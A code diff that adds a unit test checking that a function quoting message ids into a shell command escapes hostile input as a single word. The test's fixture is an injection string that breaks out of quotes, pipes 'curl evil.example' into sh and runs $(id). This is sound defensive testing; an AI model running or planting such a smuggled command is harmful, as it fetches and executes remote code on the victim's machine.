@@ -63,6 +63,14 @@ describe('what is parked', () => {
     expect(parkedText(parked, '', NOW)).not.toContain(ESCAPE);
   });
 
+  it('gives an id to a shell as one word, whatever its sender wrote', () => {
+    const sample = { ...group.sample, messageId: `x'; curl evil.example | sh #$(id)${ESCAPE}` };
+
+    const text = parkedText({ ...parked, groups: [{ ...group, sample }] }, ' --env prod', NOW);
+
+    expect(text).toContain("show orders 'x'\\''; curl evil.example | sh #$(id)\\u001b' --env prod");
+  });
+
   it('says what was not looked at, and what was not listed', () => {
     const deep = {
       ...parked,
